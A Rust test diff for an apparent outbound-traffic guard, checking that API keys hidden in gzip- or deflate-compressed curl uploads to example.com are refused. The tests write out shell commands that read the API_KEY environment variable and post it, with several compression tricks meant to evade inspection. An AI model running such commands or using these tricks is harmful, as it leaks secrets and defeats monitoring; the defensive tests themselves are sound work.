@@ -89,6 +89,54 @@ fn in_the_body() {
     assert_caught("-F \"file=@placeholder\" https://www.example.com/echo");
 }
 
+/// What a curl is told that sends what Python makes of `text`, which has the placeholder in it, as coded so.
+fn coded(coding: &str, python: &str) -> Run {
+    let upstream = Upstream::start();
+    let script = format!(
+        "python3 -c \"import os,gzip,zlib; text=('x'*70+os.environ['API_KEY']).encode(); open('body','wb').write({python})\"
+curl -sS -w '\\n%{{http_code}}' -H 'Content-Encoding: {coding}' --data-binary @body https://www.example.com/upload"
+    );
+    let run = exeat(&upstream).sh(&script).ok();
+    if !run.stdout.ends_with("200") {
+        upstream.assert_no_request();
+    }
+    run
+}
+
+#[test]
+fn in_a_compressed_body() {
+    for (coding, python) in [
+        ("gzip", "gzip.compress(text)"),
+        ("gzip", "gzip.compress(b'x')+gzip.compress(text)"),
+        ("x-gzip, identity", "gzip.compress(text)"),
+        ("deflate", "zlib.compress(text)"),
+        ("deflate", "zlib.compress(text)[2:-4]"),
+    ] {
+        let run = coded(coding, python);
+        assert!(run.stdout.ends_with("403"), "{python}: {run:#?}");
+        assert_eq!(run.log.refused_kinds(), ["placeholder-misdirected"], "{python}");
+        assert!(run.log.refusals()[0].alert, "{python}: {run:#?}");
+    }
+}
+
+#[test]
+fn where_it_could_hide_in_a_compressed_body() {
+    for (coding, python) in [
+        ("compress", "b'text'"),
+        ("gzip, gzip", "gzip.compress(gzip.compress(text))"),
+        ("gzip", "b'no gzip at all'"),
+        ("gzip", "gzip.compress(b'x'*900)[:-9]"),
+        ("deflate", "zlib.compress(b'x')+text"),
+        ("gzip", "gzip.compress(bytes(40<<20))"),
+    ] {
+        let run = coded(coding, python);
+        assert!(run.stdout.ends_with("415"), "{python}: {run:#?}");
+        assert_eq!(run.log.refused_kinds(), ["unexamined-body"], "{python}");
+    }
+    let run = coded("gzip", "gzip.compress(b'nothing hidden')");
+    assert!(run.stdout.ends_with("200"), "{run:#?}");
+}
+
 #[test]
 fn at_the_end_of_the_first_64_kib_of_a_body() {
     let fill = "(head -c 65000 /dev/zero | tr '\\0' x; echo $API_KEY) > body;";
